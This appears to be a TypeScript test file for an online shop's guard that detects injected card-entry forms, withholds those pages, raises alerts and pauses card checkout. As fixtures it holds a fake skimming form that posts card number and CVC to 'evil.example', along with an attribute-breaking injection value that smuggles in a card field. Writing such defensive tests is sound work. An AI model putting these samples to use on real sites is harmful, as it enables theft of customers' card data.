// A fake card form that reaches the response pipeline (an intruder's altered view) is withheld,
// alerted and pauses card checkout; the shop's own pages pass untouched.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DATABASES } from '../../test/support/databases.ts';
import { startTestShop, type TestShop } from '../../test/support/test-shop.ts';
import { buildShopApp } from '../app.ts';
import { cleanVerdictCache, vouchForFilledTemplate } from './outgoing-card-field-guard.ts';
import { HOLES, sendPage, templateHtml, toTemplate } from '../catalog/page-cache.ts';
import { resumeShop } from '../shop-pause/shop-pause.ts';
import { mayContainCardFields } from './card-field-detector.ts';
import { isCardPaymentPaused } from '../shop-pause/shop-pause.ts';
import { listOpenAlerts } from '../alerts/raise-alert.ts';
import { CART_COOKIE } from '../http/cookies.ts';
import { messagesFor } from '../i18n/locale.ts';

const FAKE_FORM = '<!doctype html><html><body><form action="https://evil.example/collect" method="post">'
  + '<label>カード番号 <input name="cardNo" inputmode="numeric"></label><input name="cvc"></form></body></html>';

const CLEAN_FORM = '<!doctype html><html><body><form action="/cart" method="post">'
  + '<label>数量 <input name="quantity" inputmode="numeric"></label></form></body></html>';

describe('outgoing card-field guard verdict cache', () => {
  it('keeps at most its limit of clean verdicts, dropping the oldest', () => {
    const cache = cleanVerdictCache(2);
    cache.add('a'); cache.add('b'); cache.add('c');
    expect(cache.size).toBe(2);
    expect(cache.has('a')).toBe(false);
    expect(cache.has('c')).toBe(true);
  });
});

for (const database of DATABASES) {
  describe(`outgoing card-field guard on ${database.name}`, () => {
    let shop: TestShop;
    let tampered: Awaited<ReturnType<typeof buildShopApp>>;
    let body = CLEAN_FORM;
    beforeAll(async () => {
      shop = await startTestShop(database);
      // The same shop with one view altered, as an intruder would leave it.
      tampered = await buildShopApp({ shop: shop.context, logger: false });
      tampered.get('/tampered-checkout', async (_request, reply) => reply.type('text/html; charset=utf-8').send(FAKE_FORM));
      // A route whose body changes between responses, as a cached page an intruder then alters.
      tampered.get('/changing', async (_request, reply) => reply.type('text/html; charset=utf-8').send(body));
      // Issue 16: cached page templates are judged once per template, not per filled response.
      tampered.get('/template-fake', async (request, reply) => sendPage(request, reply, toTemplate(FAKE_FORM.replace('<body>', `<body><script nonce="${HOLES.nonce}"></script>`))));
      tampered.get('/template-clean', async (request, reply) => sendPage(request, reply, toTemplate(CLEAN_FORM.replace('</form>', `<input type="hidden" name="card_number_hint" value="${HOLES.csrf}"></form>`))));
      // Vouched for one body, then another sent (a hook or an intruder changing it afterwards).
      tampered.get('/vouched-then-changed', async (_request, reply) => {
        const t = toTemplate(CLEAN_FORM);
        vouchForFilledTemplate(reply, CLEAN_FORM, t.tag, [], () => templateHtml(t));
        return reply.type('text/html; charset=utf-8').send(FAKE_FORM);
      });
      // Pages go out pre-encoded as Buffers (sendPage): a Buffer body is checked like a string.
      tampered.get('/buffer-fake', async (_request, reply) => reply.type('text/html; charset=utf-8').send(Buffer.from(FAKE_FORM, 'utf8')));
      // Vouched for one Buffer, then an equal-looking copy sent: only the very object vouched for is trusted.
      tampered.get('/vouched-buffer-then-other', async (_request, reply) => {
        const t = toTemplate(CLEAN_FORM);
        vouchForFilledTemplate(reply, Buffer.from(CLEAN_FORM), t.tag, [], () => templateHtml(t));
        return reply.type('text/html; charset=utf-8').send(Buffer.from(FAKE_FORM));
      });
      // A hole value that is not inert (it would change how the page parses): never vouched for.
      tampered.get('/vouched-unsafe-value', async (_request, reply) => {
        const t = toTemplate(CLEAN_FORM.replace('</form>', `<input type="hidden" value="${HOLES.csrf}"></form>`));
        const value = '"><input name="cardNumber" autocomplete="cc-number';
        const body = t.parts.join(value);
        vouchForFilledTemplate(reply, body, t.tag, [value], () => templateHtml(t));
        return reply.type('text/html; charset=utf-8').send(body);
      });
      await tampered.ready();
    });
    afterAll(async () => {
      await tampered?.close();
      await shop?.dispose();
    });

    it('serves the shop\'s own pages unchanged and without an alert', async () => {
      for (const url of ['/', '/?lang=en', '/products/uji-matcha-latte', '/cart', '/orders/lookup']) {
        const r = await tampered.inject({ url });
        expect(r.statusCode, url).toBeLessThan(500);
      }
      expect(await listOpenAlerts(shop.db.db)).toEqual([]);
      expect(await isCardPaymentPaused(shop.db.db)).toBe(false);
    });

    it('withholds a page with a card-entry field, raises a critical alert and pauses card checkout', async () => {
      const r = await tampered.inject({ url: '/tampered-checkout' });
      expect(r.statusCode).toBe(503);
      expect(r.body).not.toContain('cardNo');
      expect(r.body).not.toContain('evil.example');
      const alerts = await listOpenAlerts(shop.db.db);
      expect(alerts).toHaveLength(1);
      expect(alerts[0]).toMatchObject({ kind: 'page_watch.card_field_served', severity: 'critical' });
      expect(await isCardPaymentPaused(shop.db.db)).toBe(true);
      // The paused shop: the API refuses checkout with the documented problem; the cart is kept.
      const cart = await shop.app.inject({ method: 'POST', url: '/api/store/carts', payload: {} });
      const cartId = (cart.json() as { id: string }).id;
      const product = (await shop.app.inject({ url: '/api/store/products/uji-matcha-latte' })).json() as { variants: { id: number }[] };
      await shop.app.inject({ method: 'POST', url: `/api/store/carts/${cartId}/items`, payload: { variantId: product.variants[0]!.id, quantity: 1 } });
      const checkout = await shop.app.inject({
        method: 'POST', url: `/api/store/carts/${cartId}/checkout`,
        payload: { email: 'hanako@example.jp', name: '山田 花子', phone: '090-1234-5678', shippingAddress: { country: 'JP', postalCode: '100-0001', prefecture: '東京都', city: '千代田区', line1: '千代田1-1', line2: '' } },
      });
      expect(checkout.statusCode).toBe(503);
      expect(checkout.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(checkout.headers['retry-after']).toBeDefined();
      const problem = checkout.json() as { type: string; status: number };
      expect(problem.type).toMatch(/\/checkout-paused$/);
      expect(problem).not.toHaveProperty('paymentUrl');
      const kept = (await shop.app.inject({ url: `/api/store/carts/${cartId}` })).json() as { lines?: unknown[]; items?: unknown[] };
      expect((kept.lines ?? kept.items ?? []).length).toBe(1);
      // The HTML checkout says so before anything is typed.
      const page = await shop.app.inject({ url: '/checkout?lang=en', cookies: { [CART_COOKIE]: cartId } });
      expect(page.statusCode).toBe(200);
      expect(page.body).toContain(messagesFor('en').errors.checkoutPaused);
    });

    it('a body once passed and then changed gets a new verdict: the changed one is withheld', async () => {
      // A clean page that passes the cheap pre-check (a hidden field named like one), so its clean verdict is parsed and cached.
      body = CLEAN_FORM.replace('</form>', '<input type="hidden" name="card_number_hint" value="x"></form>');
      expect(mayContainCardFields(body)).toBe(true);
      for (let i = 0; i < 2; i++) {
        const ok = await tampered.inject({ url: '/changing' });
        expect(ok.statusCode).toBe(200);
        expect(ok.body).toBe(body);
      }
      body = body.replace('</form>', '<input name="cvc" autocomplete="cc-csc"></form>');
      const r = await tampered.inject({ url: '/changing' });
      expect(r.statusCode).toBe(503);
      expect(r.body).not.toContain('cvc');
    });

    it('a cached template is judged as a template: a card field in it is withheld whatever its holes hold, a clean one passes every time', async () => {
      const reset = async () => {
        await resumeShop(shop.context, 'card_payments', { id: 'test' }, 'test reset');
      };
      await reset();
      for (let i = 0; i < 3; i++) {
        const ok = await tampered.inject({ url: '/template-clean' });
        expect(ok.statusCode).toBe(200);
        expect(ok.body).toContain('name="card_number_hint" value="');
        expect(ok.body).not.toContain(HOLES.csrf);
      }
      expect(await isCardPaymentPaused(shop.db.db)).toBe(false);
      for (const url of ['/template-fake', '/template-fake', '/vouched-then-changed', '/vouched-unsafe-value', '/buffer-fake', '/vouched-buffer-then-other']) {
        const r = await tampered.inject({ url });
        expect(r.statusCode, url).toBe(503);
        expect(r.body, url).not.toMatch(/cardNo|cardNumber|evil\.example/);
        expect(await isCardPaymentPaused(shop.db.db), url).toBe(true);
        await reset();
      }
    });
  });
}
